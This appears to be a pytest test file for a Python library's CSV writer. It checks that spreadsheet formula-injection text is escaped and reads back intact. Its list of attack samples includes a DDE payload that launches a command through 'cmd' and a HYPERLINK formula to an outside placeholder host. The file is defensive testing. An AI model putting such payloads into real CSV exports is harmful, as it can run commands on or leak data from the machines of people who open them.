"""No CSV file of robx runs in a spreadsheet, and every text comes back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given
from hypothesis import strategies as st

import robx
from robx.files import read_table, write_table
from speed import examples

ATTACKS = (
    "=1+1",
    '=HYPERLINK("http://x/?"&A1;"click")',
    "+49 30 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "''-x",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0dx",
    "\uff20x",
    "x;=1+1;y",
    "x\t@SUM(A1)",
    "x\n-x",
    "-inf",
    "\ttab",
)
HARMLESS = (
    "-3.5",
    "+.5",
    "-1e-7",
    "O'Neil",
    "'quoted'",
    "'tis",
    "a=b",
    "1-2",
    "a,-b",
    "x; y",
    "NA",
)


def cells_of_a_spreadsheet(data: str) -> list[str]:
    """All cells of a CSV file, in any country."""
    found = [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]
    return [*found, *re.split("[;\r\n]", data), *re.split("[\t\r\n]", data)]


def runs(cell: str) -> bool:
    """Whether a spreadsheet might run a cell: judged without robx."""
    bare = cell.lstrip(' "\u200b\ufeff\xa0')
    if cell.startswith(("\t", "\r", "\n")):
        return True
    if not bare.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")):
        return False
    try:  # a number, also one before a comma that does not separate
        return not np.isfinite(float(bare.partition(",")[0].strip('" ')))
    except ValueError:
        return True


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_escaped_as_a_cell_a_category_and_a_name(tmp_path: Path, text: str) -> None:
    rows = pd.DataFrame({"who": ["Ann", text], text: [-1.5, 2.0]})
    rows["kind"] = pd.Categorical([text, "b"])
    rows["object"] = np.array([text, -7.5], dtype=object)
    file = tmp_path / "t.csv"
    with pytest.warns(robx.RobxWarning, match="^4 texts in 't.csv' begin as a formula does. An ap"):
        write_table(rows, file)
    data = file.read_bytes().decode()
    assert [cell for cell in cells_of_a_spreadsheet(data) if runs(cell)] == []
    assert ",-1.5," in data
    back = read_table(file, only_blanks_missing=True)
    assert back.columns.tolist() == rows.columns.tolist()
    assert back["who"].tolist() == ["Ann", text]
    assert back["kind"].tolist() == [text, "b"]
    assert back["object"].astype(str).tolist() == [text, "-7.5"]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_spreadsheet_runs_stands_as_it_is(tmp_path: Path, text: str) -> None:
    rows = pd.DataFrame({"who": [text, "x"], "n": [-3.5, -np.inf]})
    write_table(rows, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == rows.to_csv(index=False)


#: Warnings are errors in tests.
warned = pytest.mark.filterwarnings("ignore:.*as a formula does:robx.RobxWarning")

hostile = st.one_of(
    st.text(alphabet="'\"=+-@;,\t\r\n \ufeff\uff1d\u200b1.eEab", max_size=8),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=8),
    st.sampled_from([*ATTACKS, *HARMLESS]),
)


@warned
@examples(500, few=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(hostile, hostile), min_size=1, max_size=4), hostile)
def test_hostile_text_comes_back_as_it_was(
    tmp_path: Path, cells: list[tuple[str, str]], name: str
) -> None:
    names = [name if name.strip() else "a", "another"]
    rows = pd.DataFrame(cells, columns=pd.Index(names), dtype=object)
    write_table(rows, tmp_path / "t.csv")
    data = (tmp_path / "t.csv").read_bytes().decode()
    assert [cell for cell in cells_of_a_spreadsheet(data) if runs(cell)] == []
    back = read_table(tmp_path / "t.csv", only_blanks_missing=True, text=names)
    assert back.columns.tolist() == names
    assert back.fillna("").to_numpy().tolist() == [list(row) for row in cells]


def test_a_file_of_others_is_read_as_it_stands(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("'=a,b\n'+',1\n'-',2\n")
    table = read_table(tmp_path / "t.csv")
    assert table.to_dict("list") == {"'=a": ["'+'", "'-'"], "b": [1, 2]}


@pytest.mark.parametrize("name", ["a;b", "a\tb", 'a"\n;b'])
def test_a_single_column_with_a_separator_in_its_name_comes_back(tmp_path: Path, name: str) -> None:
    write_table(pd.DataFrame({name: ["x;y", "z"]}), tmp_path / "t.csv")
    back = read_table(tmp_path / "t.csv", only_blanks_missing=True)
    assert back.to_dict("list") == {name: ["x;y", "z"]}


def test_names_that_only_an_apostrophe_tells_apart_are_refused(tmp_path: Path) -> None:
    (tmp_path / "t.csv").write_text("=a,'=a\n1,2\n")
    with pytest.raises(robx.InvalidInput, match="more than one column named '=a'"):
        read_table(tmp_path / "t.csv", only_blanks_missing=True)


def test_text_that_no_file_can_hold_is_refused_in_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(
        robx.InvalidInput, match=r"'t.csv' cannot be written: the table holds '\\ud"
    ):
        write_table(pd.DataFrame({"a": pd.Series(["\ud800"], dtype=object)}), tmp_path / "t.csv")
    assert list(tmp_path.iterdir()) == []


def answers_for(ids: list[str], name: str, level: str) -> Any:
    """Answers for people with these names, about a feature and a level of it with these names."""
    from sklearn.ensemble import RandomForestClassifier

    X = pd.DataFrame({name: np.linspace(0, 1, 60), "other": np.tile([0.0, 1.0], 30)})
    model = RandomForestClassifier(5, random_state=0).fit(X, X[name] > 0.5)
    features = [
        robx.Feature(name),
        robx.Feature("other", "categorical", levels=(0, 1), labels=(level, "b")),
    ]
    people = pd.DataFrame({name: [0.1] * len(ids), "other": [0.0] * len(ids)}, index=ids)
    problem = robx.Problem(model, X, robx.Schema(features))
    return model, robx.NearestNeighbour().explain(problem, people)


@warned
def test_answers_in_csv_are_checked_under_the_names_that_applicants_have(tmp_path: Path) -> None:
    model, answers = answers_for(["=1+1", "'=1+1", "-x", "plain"], "@income", "=level")
    answers.save(tmp_path / "answers.csv")
    data = (tmp_path / "answers.csv").read_text()
    assert [cell for cell in cells_of_a_spreadsheet(data) if runs(cell)] == []
    kept = robx.check(tmp_path / "answers.csv", model)
    assert kept.table["applicant"].tolist() == ["=1+1", "'=1+1", "-x", "plain"]
    assert kept.share == 1
    write_table(kept.table, tmp_path / "kept.csv")
    data = (tmp_path / "kept.csv").read_text()
    assert [cell for cell in cells_of_a_spreadsheet(data) if runs(cell)] == []


@pytest.mark.parametrize(("n", "said"), [(1, "runs it; robx reads it"), (2, "runs them; robx rea")])
def test_the_warning_speaks_of_one_or_of_many(tmp_path: Path, n: int, said: str) -> None:
    with pytest.warns(robx.RobxWarning, match=said):
        write_table(pd.DataFrame({"a": ["=1"] * n}), tmp_path / "t.csv")
